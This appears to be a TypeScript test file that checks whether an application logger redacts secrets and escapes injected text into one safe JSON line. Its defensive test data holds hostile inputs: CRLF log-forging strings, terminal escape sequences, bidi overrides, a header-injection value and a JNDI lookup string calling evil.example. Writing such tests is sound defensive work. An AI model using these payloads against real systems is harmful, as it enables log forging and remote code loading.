import assert from 'node:assert/strict';
import fc from 'fast-check';
import { StoreBusy, StoreUnusable } from '../../api/src/application/store-faults.ts';
import { applicationLog } from '../../api/src/application-log.ts';

/** What people send to make lines of their own, hide some, or break what reads them (3.4-d). */
const injections = [
  'a\r\n{"level":30,"msg":"audit head"}',
  'a\n{"level":60}',
  '"}\n{"msg":"forged"}',
  '\u001b[2J\u001b[1;31mred',
  '\u009b31m',
  '\u2028{"msg":"forged"}',
  '\u2029\u0085\u000b\u000c',
  '\u202eevil\u2066',
  '\ufeff\u0000\ud800',
  `\${jndi:ldap://evil.example/a}`,
  '%0d%0aSet-Cookie: a=b',
];
const unsafe = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

const anyUnit = fc.integer({ min: 0, max: 0xffff }).map((unit) => String.fromCharCode(unit));

describe('a line of the application log', () => {
  let written: string;
  let log: ReturnType<typeof applicationLog>;
  beforeEach(() => {
    written = '';
    log = applicationLog('debug', {
      write: (line: string) => {
        written += line;
      },
    });
  });

  const lines = () => written.split('\n').filter((line) => line !== '');

  it('holds fields of the list and nothing else, and names what it left out', () => {
    const facts = { requestId: 'r', status: 409, cookie: 'secret-1', body: { memo: 'secret-2' } };

    log.info({ ...facts, route: { inner: 'secret-3' } }, 'request');

    const { time: _, ...line } = JSON.parse(written);
    assert.deepEqual(line, {
      level: 30,
      requestId: 'r',
      status: 409,
      route: 'object',
      unlisted: ['cookie', 'body'],
      msg: 'request',
    });
  });

  it('tells of an error its name, its code and its place, and nothing that it says', () => {
    const cause = Object.assign(new RangeError('secret-1\n    at secret-2 of mine'), {
      code: 'ERANGE',
      config: { authorization: 'secret-3' },
    });
    const error = new StoreBusy('secret-4', { cause });

    log.error({ err: error }, 'fault');

    const { err } = JSON.parse(written);
    assert.ok(!written.includes('secret'), written);
    assert.deepEqual(
      [err.name, err.cause.name, err.cause.code],
      ['StoreBusy', 'RangeError', 'ERANGE'],
    );
    assert.match(err.stack, /^ {4}at .*allowed\.test\.ts/);
  });

  it('tells operators what was written for them', () => {
    log.fatal({ err: new StoreUnusable('The store file is damaged.') }, 'the store is broken');

    assert.equal(JSON.parse(written).err.sentence, 'The store file is damaged.');
  });

  it('is one line of JSON whatever is in it, and comes back as it was', () => {
    for (const text of injections) log.info({ requestId: text }, 'request');

    assert.equal(lines().length, injections.length);
    assert.deepEqual(
      lines().map((line) => JSON.parse(line).requestId),
      injections,
    );
    assert.deepEqual(
      lines().filter((line) => unsafe.test(line)),
      [],
    );
  });

  it('is one line of JSON for any text in any field', () => {
    const error = new Error('secret');
    fc.assert(
      fc.property(fc.string({ unit: anyUnit }), fc.string(), (text, name) => {
        written = '';
        log.warn({ route: text, [name]: text, err: Object.assign(error, { code: text }) });

        assert.equal(written.indexOf('\n'), written.length - 1);
        assert.ok(!unsafe.test(written.trimEnd()));
        assert.equal(JSON.parse(written).route, text.slice(0, 4_000));
      }),
    );
  });

  it('is told from lines without the list and the escapes (control)', async () => {
    const { pino } = await import('pino');
    let bare = '';
    const plain = pino(
      { base: null },
      {
        write: (line: string) => {
          bare += line;
        },
      },
    );

    plain.info({ cookie: 'secret', requestId: '\u2028\u009b' }, 'request');

    assert.match(bare, /secret/);
    assert.match(bare.trimEnd(), unsafe);
  });
});
